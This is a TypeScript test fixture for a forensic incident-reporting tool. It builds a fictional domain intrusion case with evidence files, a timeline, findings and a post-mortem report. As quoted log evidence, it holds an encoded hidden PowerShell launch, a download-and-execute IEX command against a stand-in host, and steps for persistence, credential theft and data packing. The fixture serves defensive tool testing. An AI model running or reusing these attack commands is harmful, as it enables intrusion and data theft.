import type { LedgerEntry } from '#shared/ipc/cases.ts';
import type { BoardItem } from '#shared/model/board.ts';
import type { EventDetail } from '#shared/model/event.ts';
import type { EvidenceIssue, EvidenceItem } from '#shared/model/evidence.ts';
import type { Finding } from '#shared/model/finding.ts';
import type {
  AnalystId,
  BoardItemId,
  CaseId,
  EventId,
  EventKey,
  EvidenceIndex,
  FindingId,
  Md5,
  OpId,
  ParserId,
  ReportId,
  SectionId,
  Sha1,
  Sha256,
} from '#shared/model/ids.ts';
import { eventId } from '#shared/model/ids.ts';
import type { ReportNode, ReportSection } from '#shared/model/report.ts';
import { ok } from '#shared/model/result.ts';
import type { Instant, Precision } from '#shared/model/time.ts';
import { citationNode, liveNode } from '#shared/report/document-parts.ts';
import { EMPTY_WORK, linkKey, type WorkState } from '#shared/work/work-state.ts';
import type { ReportSources } from '#main/report/sources.ts';

/** A made-up case, whole enough for every part of a report; tests change what they are about. */

const hex = (seed: number, length: number): string => {
  let text = '';
  let state = seed * 2_654_435_761 + 97;
  while (text.length < length) {
    state = (Math.imul(state ^ (state >>> 15), 2_246_822_519) + 3_266_489_917) >>> 0;
    text += state.toString(16).padStart(8, '0');
  }
  return text.slice(0, length);
};

export const at = (iso: string): Instant => (BigInt(Date.parse(iso)) * 1_000_000n) as Instant;

export function evidenceItem(index: number, change: Partial<EvidenceItem> = {}): EvidenceItem {
  return {
    index: index as EvidenceIndex,
    name: `file-${index}.log`,
    originalPath: `/media/triage/file-${index}.log`,
    size: 20_480_000,
    sha256: hex(index + 1, 64) as Sha256,
    sha1: hex(index + 101, 40) as Sha1,
    md5: hex(index + 201, 32) as Md5,
    custody: 'copy',
    source: 'Triage stick handed over by IT operations',
    reason: 'Collection of 13 May',
    sealedAt: '2026-05-13T10:12:00.000Z',
    state: 'done',
    format: 'Windows event log',
    parser: 'evtx' as ParserId,
    parserVersion: 1,
    confidence: 3,
    coverage: {
      bytes: { parsed: 20_000_000, skipped: 480_000, unexplained: 0 },
      skippedBy: { header: 480_000 },
      records: 40_112,
      events: 40_112,
      recovered: 0,
      issues: 0,
      fraction: 1,
    },
    firstTime: at('2026-05-11T00:00:04Z'),
    lastTime: at('2026-05-13T09:58:41Z'),
    ...change,
  };
}

const security = evidenceItem(0, {
  name: 'DC1-Security.evtx',
  originalPath: '/media/triage/dc1/DC1-Security.evtx',
  size: 134_287_360,
  coverage: {
    bytes: { parsed: 133_693_440, skipped: 593_920, unexplained: 0 },
    skippedBy: { header: 4_096, 'unused-slack': 589_824 },
    records: 200_112,
    events: 200_112,
    recovered: 0,
    issues: 0,
    fraction: 1,
  },
  modifiedAt: '2026-05-13T09:58:44.000Z',
  verified: {
    at: '2026-05-14T08:00:12.000Z',
    intact: true,
    detail: 'as sealed',
  },
});
const sysmon = evidenceItem(1, {
  name: 'WS07-Sysmon.evtx',
  originalPath: '/media/triage/ws07/WS07-Sysmon.evtx',
  size: 67_178_496,
  coverage: {
    bytes: { parsed: 66_912_256, skipped: 200_704, unexplained: 65_536 },
    skippedBy: { header: 4_096, 'unused-slack': 196_608 },
    records: 88_204,
    events: 88_190,
    recovered: 12,
    issues: 3,
    fraction: 0.999,
  },
});
const firewall = evidenceItem(2, {
  name: 'fw1.log',
  originalPath: '/media/triage/fw/fw1.log.gz!fw1.log',
  parent: hex(4, 64) as Sha256,
  format: 'syslog',
  parser: 'syslog' as ParserId,
  parserVersion: 2,
  confidence: 2,
  assumedZone: 'Europe/Stockholm',
});
const archive = evidenceItem(3, {
  name: 'fw1.log.gz',
  originalPath: '/media/triage/fw/fw1.log.gz',
  sha256: hex(4, 64) as Sha256,
  size: 1_204_224,
  format: 'gzip',
  state: 'container',
  parser: 'gzip' as ParserId,
  coverage: {
    bytes: { parsed: 1_204_198, skipped: 26, unexplained: 0 },
    skippedBy: { header: 26 },
    records: 1,
    events: 0,
    recovered: 0,
    issues: 0,
    fraction: 1,
  },
});
const memory = (() => {
  const { coverage: _, parser: __, format: ___, ...rest } = evidenceItem(4);
  return {
    ...rest,
    name: 'notes.bin',
    originalPath: '/media/triage/notes.bin',
    size: 8_192,
    state: 'unparsed',
    explanation: 'no parser recognises its first 64 KiB',
  } satisfies EvidenceItem;
})();
export const evidence: readonly EvidenceItem[] = [security, sysmon, firewall, archive, memory];

export function eventOf(
  file: EvidenceItem,
  n: number,
  change: Partial<EventDetail> & { message: string },
): EventDetail {
  const offset = 4_096 + n * 1_576;
  return {
    key: (file.index * 2 ** 32 + n) as EventKey,
    id: eventId(file.sha256, offset, 0),
    evidence: file.index,
    offset,
    length: 1_184,
    record: 30_000 + n,
    ordinal: 0,
    timeMeaning: 'logged',
    precision: '100ns',
    zone: 'utc',
    category: 'process',
    recovered: false,
    tags: [],
    noted: false,
    onBoard: true,
    fields: {},
    parser: file.parser ?? 'none',
    parserVersion: file.parserVersion ?? 0,
    evidenceName: file.name,
    evidenceSha256: file.sha256,
    notes: [],
    ...change,
  };
}

interface Step {
  readonly iso: string;
  readonly title: string;
  readonly phase: BoardItem['phase'];
  readonly technique?: string;
  readonly host?: string;
  readonly actor?: string;
  readonly file?: EvidenceItem;
  readonly message?: string;
  readonly precision?: Precision;
  readonly standing?: BoardItem['standing'];
  readonly confidence?: BoardItem['confidence'];
  readonly basis?: string;
  readonly reason: string;
  readonly end?: string;
}

const STEPS: readonly Step[] = [
  {
    iso: '2026-05-11T22:14:00Z',
    title: 'Scan of the public web server begins',
    phase: 'reconnaissance',
    technique: 'T1595.002',
    file: firewall,
    message: 'fw1 kernel: ACCEPT IN=wan OUT=dmz SRC=203.0.113.66 DST=192.0.2.10 PROTO=TCP DPT=443',
    precision: 's',
    host: 'web1',
    actor: '203.0.113.66',
    reason: 'First contact from the address seen in every later step.',
  },
  {
    iso: '2026-05-12T07:52:11Z',
    title: 'Lure with macro document delivered',
    phase: 'initial-access',
    technique: 'T1566.001',
    standing: 'inferred',
    confidence: 'medium',
    basis:
      'Mail gateway administrator, by telephone on 13 May; the gateway’s log was not collected',
    actor: '203.0.113.66',
    host: 'mail',
    reason: 'The document opened 80 minutes later carries this name.',
  },
  {
    iso: '2026-05-12T09:12:04.113Z',
    title: 'Word starts hidden PowerShell',
    phase: 'execution',
    technique: 'T1059.001',
    file: sysmon,
    message:
      'Process created: C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA (parent WINWORD.EXE, user LINDHOLM\\a.berg)',
    host: 'WS07',
    actor: 'LINDHOLM\\a.berg',
    reason: 'Parent is WINWORD.EXE; the encoded command downloads a.ps1.',
  },
  {
    iso: '2026-05-12T09:12:06.020Z',
    title: 'First contact with command and control',
    phase: 'command-and-control',
    technique: 'T1071.001',
    file: sysmon,
    message: 'Network connection: powershell.exe 192.0.2.107:50412 to 198.51.100.23:443 (TCP)',
    host: 'WS07',
    actor: 'LINDHOLM\\a.berg',
    reason: 'Then every ten minutes until the host was cut off.',
    end: '2026-05-13T05:40:00Z',
  },
  {
    iso: '2026-05-12T09:12:06.020Z',
    title: 'Run key keeps the implant',
    phase: 'persistence',
    technique: 'T1547.001',
    file: sysmon,
    message:
      'Registry value set: HKU\\S-1-5-21-1004\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveUpdate = C:\\Users\\a.berg\\AppData\\Local\\updsvc.exe',
    host: 'WS07',
    actor: 'LINDHOLM\\a.berg',
    reason: 'Survives logoff; points at updsvc.exe.',
  },
  {
    iso: '2026-05-12T09:21:40Z',
    title: 'Domain administrators listed',
    phase: 'discovery',
    technique: 'T1069.002',
    file: sysmon,
    message: 'Process created: net.exe group "Domain Admins" /domain',
    host: 'WS07',
    actor: 'LINDHOLM\\a.berg',
    reason: 'One of four discovery commands in four minutes.',
  },
  {
    iso: '2026-05-12T09:44:13Z',
    title: 'Memory of LSASS read',
    phase: 'credential-access',
    technique: 'T1003.001',
    file: sysmon,
    message: 'Process accessed: updsvc.exe opened lsass.exe with 0x1010',
    host: 'WS07',
    actor: 'LINDHOLM\\a.berg',
    reason: 'Access 0x1010 by the implant.',
  },
  {
    iso: '2026-05-12T13:30:02Z',
    title: 'Password guessing against DC1',
    phase: 'credential-access',
    technique: 'T1110.003',
    file: security,
    message: 'Logon failed: m.holm from 192.0.2.107 (bad password)',
    host: 'DC1',
    actor: 'WS07',
    reason: '46 failures in 90 seconds.',
    end: '2026-05-12T13:31:32Z',
  },
  {
    iso: '2026-05-12T14:05:19Z',
    title: 'Service account logs on to FS01 from WS07',
    phase: 'lateral-movement',
    technique: 'T1021.002',
    file: security,
    message: 'Logon: svc_backup from 192.0.2.107 to FS01 (network)',
    host: 'FS01',
    actor: 'svc_backup',
    reason: 'The account never logs on from a workstation otherwise.',
  },
  {
    iso: '2026-05-12T14:05:22Z',
    title: 'PsExec service installed on FS01',
    phase: 'lateral-movement',
    technique: 'T1569.002',
    file: security,
    message: 'Service installed: PSEXESVC (%SystemRoot%\\PSEXESVC.exe), demand start, LocalSystem',
    host: 'FS01',
    actor: 'svc_backup',
    reason: 'Three seconds after the logon.',
  },
  {
    iso: '2026-05-12T15:20:44Z',
    title: 'Account helpdesk2 created',
    phase: 'persistence',
    technique: 'T1136.002',
    file: security,
    message: 'User account created: helpdesk2 by LINDHOLM\\adm.nyberg',
    host: 'DC1',
    actor: 'adm.nyberg',
    reason: 'From WS07, while she was in a meeting.',
  },
  {
    iso: '2026-05-12T15:21:10Z',
    title: 'helpdesk2 made a domain administrator',
    phase: 'privilege-escalation',
    technique: 'T1098.007',
    file: security,
    message: 'Member added to Domain Admins: helpdesk2 by LINDHOLM\\adm.nyberg',
    host: 'DC1',
    actor: 'adm.nyberg',
    reason: 'Full control of the domain from here on.',
  },
  {
    iso: '2026-05-13T01:40:02Z',
    title: 'Contracts packed on FS01',
    phase: 'collection',
    technique: 'T1560.001',
    file: security,
    message: 'Process created: 7z.exe a -v200m -p*** D:\\tmp\\c.7z D:\\Shares\\Contracts',
    host: 'FS01',
    actor: 'helpdesk2',
    reason: 'Encrypted, in 200 MB volumes.',
  },
  {
    iso: '2026-05-13T02:19:31Z',
    title: 'At least 2.5 GB leave the file server',
    phase: 'exfiltration',
    technique: 'T1048.002',
    file: firewall,
    message: 'fw1 kernel: CLOSE SRC=192.0.2.20 DST=198.51.100.23 BYTES=209715200',
    precision: 's',
    host: 'FS01',
    actor: 'helpdesk2',
    reason: 'First of twelve equal parts.',
    end: '2026-05-13T03:04:12Z',
  },
  {
    iso: '2026-05-13T03:10:00Z',
    title: 'Security log of WS07 cleared',
    phase: 'defense-evasion',
    technique: 'T1685.005',
    file: sysmon,
    message: 'The audit log was cleared by LINDHOLM\\helpdesk2',
    host: 'WS07',
    actor: 'helpdesk2',
    reason: 'Sysmon and forwarded copies remained.',
  },
  {
    iso: '2026-05-13T00:00:00Z',
    title: 'A second workstation may have been entered',
    phase: 'lateral-movement',
    precision: 'day',
    standing: 'assumed',
    confidence: 'low',
    basis: 'IT operations remembers an unknown session on WS11; no log of that host exists',
    host: 'WS11',
    reason: 'Kept on the board so that it is not forgotten.',
  },
  {
    iso: '2026-05-13T05:31:12Z',
    title: 'Defender reports the implant',
    phase: 'response',
    file: sysmon,
    message:
      'Malware detected: Trojan:Win32/Wacatac.B!ml in C:\\Users\\a.berg\\AppData\\Local\\updsvc.exe',
    host: 'WS07',
    actor: 'Microsoft Defender',
    reason: 'The detection that started this case.',
  },
  {
    iso: '2026-05-13T05:55:00Z',
    title: 'Account helpdesk2 disabled',
    phase: 'response',
    file: security,
    message: 'User account disabled: helpdesk2 by LINDHOLM\\adm.nyberg',
    host: 'DC1',
    actor: 'adm.nyberg',
    reason: 'First containment act.',
  },
];

const promoted = STEPS.flatMap((step, n): readonly EventDetail[] =>
  step.file === undefined
    ? []
    : [
        eventOf(step.file, n, {
          message: step.message ?? '',
          time: at(step.iso),
          precision: step.precision ?? '100ns',
          ...(step.file === firewall && {
            zone: 'assumed' as const,
            timeOriginal: 'May 12 00:14:00',
            category: 'network' as const,
          }),
          ...(step.host !== undefined && { host: step.host }),
          ...(step.actor !== undefined && step.file !== firewall && { user: step.actor }),
        }),
      ],
);
const eventAt = (iso: string): EventDetail => {
  const found = promoted.find(({ time }) => time === at(iso));
  if (found === undefined) throw new Error(`no event at ${iso}`);
  return found;
};

export const board: readonly BoardItem[] = STEPS.map((step, n) => {
  const event = step.file === undefined ? undefined : eventAt(step.iso);
  return {
    id: `item-${n}` as BoardItemId,
    title: step.title,
    time: at(step.iso),
    ...(step.end !== undefined && { end: at(step.end) }),
    precision: step.precision ?? '100ns',
    ...(event !== undefined && { event: event.id }),
    ...(step.basis !== undefined && { basis: step.basis }),
    reason: step.reason,
    standing: step.standing ?? 'proven',
    confidence: step.confidence ?? 'high',
    phase: step.phase,
    ...(step.technique !== undefined && { technique: step.technique }),
    ...(step.host !== undefined && { host: step.host }),
    ...(step.actor !== undefined && { actor: step.actor }),
    rank: `a${String.fromCharCode(65 + n)}`,
  };
});

export const findings: readonly Finding[] = [
  {
    id: 'finding-macro' as FindingId,
    title: 'A macro document gave the intruder WS07',
    severity: 'high',
    confidence: 'high',
    status: 'confirmed',
    statement:
      'Invoice_4471.docm was opened by Anna Berg at 09:12 UTC on 12 May 2026. Word started PowerShell, which fetched the implant updsvc.exe and made it start at every logon.',
    technique: 'T1566.001',
    events: [eventAt('2026-05-12T09:12:04.113Z').id],
  },
  {
    id: 'finding-domain' as FindingId,
    title: 'The domain was taken with a stolen administrator account',
    severity: 'critical',
    confidence: 'high',
    status: 'confirmed',
    statement:
      'With credentials read from WS07 the intruder logged on to DC1 as adm.nyberg, created helpdesk2 and made it a domain administrator.',
    technique: 'T1136.002',
    events: [
      eventAt('2026-05-12T09:44:13Z').id,
      eventAt('2026-05-12T15:20:44Z').id,
      eventAt('2026-05-12T15:21:10Z').id,
    ],
  },
  {
    id: 'finding-contracts' as FindingId,
    title: 'At least 2.5 GB of contracts left the network',
    severity: 'critical',
    confidence: 'medium',
    status: 'open',
    statement:
      'Twelve sessions of 200 MB each went from FS01 to 198.51.100.23 between 02:19 and 03:04 UTC on 13 May 2026, after the Contracts share had been packed with 7-Zip.\n\nWhat the archives held cannot be seen: they were encrypted.',
    technique: 'T1048.002',
    events: [eventAt('2026-05-13T01:40:02Z').id, eventAt('2026-05-13T02:19:31Z').id],
  },
  {
    id: 'finding-vpn' as FindingId,
    title: 'VPN logon from abroad',
    severity: 'low',
    confidence: 'high',
    status: 'dismissed',
    statement: 'The employee was travelling; confirmed by telephone.',
    events: [],
  },
];

const LEDGER: readonly (readonly [string, string, string])[] = [
  ['2026-05-13T10:02:11.000Z', 'case-created', 'Case “Harbour intrusion” created by Maria Lind'],
  [
    '2026-05-13T10:11:40.000Z',
    'intake-begun',
    'Intake: /media/triage (copied into the case); source: Triage stick handed over by IT operations; reason: Collection of 13 May',
  ],
  ...evidence.map(
    (item) =>
      [
        item.sealedAt,
        'evidence-sealed',
        `Sealed #${item.index} ${item.originalPath}, ${item.size.toLocaleString('en-US')} bytes, SHA-256 ${item.sha256}`,
      ] as const,
  ),
  [
    '2026-05-13T10:31:02.000Z',
    'intake-ended',
    'Intake ended: 5 files sealed, 0 already known, 0 refused',
  ],
  ['2026-05-14T08:00:12.000Z', 'evidence-verified', '5 files hashed again, all as sealed'],
];

export const ledger: readonly LedgerEntry[] = LEDGER.map(([when, kind, summary], seq) => ({
  seq,
  at: when,
  actor: 'Maria Lind',
  kind,
  summary,
  body: {},
  hash: hex(seq + 900, 64),
}));

export const paragraph = (...parts: (string | ReportNode)[]): ReportNode => ({
  type: 'paragraph',
  content: parts.map((part) => (typeof part === 'string' ? { type: 'text', text: part } : part)),
});
export const document = (...content: ReportNode[]): ReportNode => ({ type: 'doc', content });
const bold = (value: string): ReportNode => ({
  type: 'text',
  text: value,
  marks: [{ type: 'bold' }],
});
const cite = (iso: string): ReportNode => citationNode({ kind: 'event', event: eventAt(iso).id });
const citeFinding = (id: string): ReportNode =>
  citationNode({ kind: 'finding', finding: id as FindingId });
const cell = (type: 'tableHeader' | 'tableCell', value: string): ReportNode => ({
  type,
  content: [paragraph(value)],
});
const rowOf = (type: 'tableHeader' | 'tableCell', ...values: string[]): ReportNode => ({
  type: 'tableRow',
  content: values.map((value) => cell(type, value)),
});
const item = (value: string): ReportNode => ({ type: 'listItem', content: [paragraph(value)] });

const SECTIONS: readonly (readonly [
  title: string,
  level: 1 | 2,
  appendix: boolean,
  content: ReportNode,
])[] = [
  [
    'Summary',
    1,
    false,
    document(
      paragraph(
        bold(
          'On 12 May 2026 an intruder took control of the Lindholm domain and removed at least 2.5 GB of contracts.',
        ),
        ' Entry was a macro document opened on a workstation ',
        cite('2026-05-12T09:12:04.113Z'),
        '; a stolen administrator account was used to create a domain administrator of the intruder’s own ',
        cite('2026-05-12T15:21:10Z'),
        ' (',
        citeFinding('finding-domain'),
        ').',
      ),
      paragraph(
        'The intrusion was detected by chance, when an antivirus signature arrived at 05:31 UTC on 13 May ',
        cite('2026-05-13T05:31:12Z'),
        ', and contained 24 minutes later. No sign of the intruder was found after that.',
      ),
    ),
  ],
  [
    'Impact',
    1,
    false,
    document({
      type: 'guidance',
      content: [{ type: 'text', text: 'Who and what was affected, and since when.' }],
    }),
  ],
  ['In figures', 2, false, document(liveNode({ kind: 'metrics' }))],
  [
    'Timeline',
    1,
    false,
    document(
      paragraph('All times are UTC.'),
      liveNode({ kind: 'board-figure' }),
      liveNode({ kind: 'board-table' }),
    ),
  ],
  [
    'Root cause',
    1,
    false,
    document(
      paragraph('Three conditions had to meet:'),
      {
        type: 'orderedList',
        attrs: { start: 1 },
        content: [
          item('Macros in documents from outside were allowed to run.'),
          item('The account svc_backup was a local administrator everywhere.'),
          item('Administrators logged on to workstations with domain-wide rights.'),
        ],
      },
      { type: 'heading', attrs: { level: 3 }, content: [{ type: 'text', text: 'The command' }] },
      {
        type: 'codeBlock',
        content: [
          {
            type: 'text',
            text: "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1')",
          },
        ],
      },
      {
        type: 'blockquote',
        content: [paragraph('“The invoice looked like any other.” (Anna Berg, 13 May)')],
      },
    ),
  ],
  ['Techniques', 1, false, document(liveNode({ kind: 'techniques' }))],
  [
    'Response',
    1,
    false,
    document(
      paragraph('What was done, in order:'),
      liveNode({ kind: 'events', query: 'helpdesk2', limit: 20 }),
    ),
  ],
  [
    'Lessons and actions',
    1,
    false,
    document({
      type: 'table',
      content: [
        rowOf('tableHeader', 'Action', 'Owner', 'Due'),
        rowOf(
          'tableCell',
          'Block macros from the internet by policy',
          'IT operations',
          '30 May 2026',
        ),
        rowOf(
          'tableCell',
          'Separate administration accounts and workstations',
          'Security',
          '30 June 2026',
        ),
      ],
    }),
  ],
  ['Findings', 1, true, document(liveNode({ kind: 'findings' }))],
  ['Evidence', 1, true, document(liveNode({ kind: 'evidence' }))],
  ['Chain of custody', 1, true, document(liveNode({ kind: 'custody' }))],
  ['Coverage: what was read and what was not', 1, true, document(liveNode({ kind: 'coverage' }))],
];

export const REPORT = 'report-1' as ReportId;
export const ANALYST = {
  id: hex(77, 32) as AnalystId,
  name: 'Maria Lind',
  publicKey: 'unused here',
};

export const sections: readonly ReportSection[] = SECTIONS.map(
  ([title, level, appendix, content], n) => ({
    id: `section-${n}` as SectionId,
    rank: `a${String.fromCharCode(65 + n)}`,
    level,
    title,
    appendix,
    content,
  }),
);

export const work: WorkState = {
  ...EMPTY_WORK,
  title: 'Harbour intrusion',
  board: new Map(board.map((one) => [one.id, one])),
  links: new Map(
    [
      { from: board[1], to: board[2], kind: 'led-to' as const },
      { from: board[2], to: board[3], kind: 'led-to' as const },
      { from: board[6], to: board[10], kind: 'enabled' as const },
    ].flatMap(({ from, to, kind }) => {
      if (from === undefined || to === undefined) return [];
      const link = { from: from.id, to: to.id, kind };
      return [[linkKey(link), link] as const];
    }),
  ),
  findings: new Map(findings.map((one) => [one.id, one])),
  reports: new Map([
    [
      REPORT,
      {
        id: REPORT,
        header: {
          title: 'Intrusion into the Lindholm domain, 11 to 13 May 2026',
          subtitle: 'Post-mortem for management, legal counsel and the supervisory authority',
          classification: 'TLP:AMBER · Confidential',
          organisation: 'Lindholm Shipping AB',
          template: 'post-mortem',
        },
        sections: new Map(sections.map((one) => [one.id, one])),
      },
    ],
  ]),
  moments: new Map([
    ['detected', { event: eventAt('2026-05-13T05:31:12Z').id, op: hex(1, 64) as OpId }],
    ['contained', { at: at('2026-05-13T05:55:00Z'), op: hex(2, 64) as OpId }],
    ['aware', { at: at('2026-05-13T06:30:00Z'), op: hex(3, 64) as OpId }],
  ]),
};

export const events = new Map<EventId, EventDetail>(promoted.map((event) => [event.id, event]));

const ISSUES: readonly EvidenceIssue[] = [
  {
    evidence: 1 as EvidenceIndex,
    code: 'evtx-chunk-checksum',
    severity: 'loss',
    blame: 'evidence',
    offset: 4_198_400,
    length: 65_536,
    message: 'The chunk’s checksum does not fit its header; 14 records of it could not be read.',
  },
  {
    evidence: 1 as EvidenceIndex,
    code: 'evtx-dirty-flag',
    severity: 'info',
    blame: 'evidence',
    offset: 120,
    message: 'The file was not closed properly: its header still has the dirty flag.',
  },
];

export const harbourCase: ReportSources = {
  caseId: '0197c3f2-7d1e-7aa4-9f55-2d8f1f0b6c11' as CaseId,
  analyst: ANALYST,
  tool: 'Fireline 0.1.0',
  now: '2026-05-14T09:30:00.000Z',
  work,
  evidence,
  custody: { entries: ledger, intact: true, detail: 'intact' },
  heads: {
    ledger: { lines: ledger.length, hash: hex(900 + ledger.length - 1, 64) as Sha256 },
    work: { lines: 214, hash: hex(7_000, 64) as Sha256 },
  },
  issues: (file, limit) =>
    Promise.resolve(ISSUES.filter(({ evidence: of }) => of === file.index).slice(0, limit)),
  events: (ids) => Promise.resolve(ids.map((id) => events.get(id) ?? null)),
  query: (query, limit) => {
    const rows = promoted.filter(({ message }) => message.includes(query));
    return Promise.resolve(ok({ rows: rows.slice(0, limit), total: rows.length, settled: true }));
  },
};
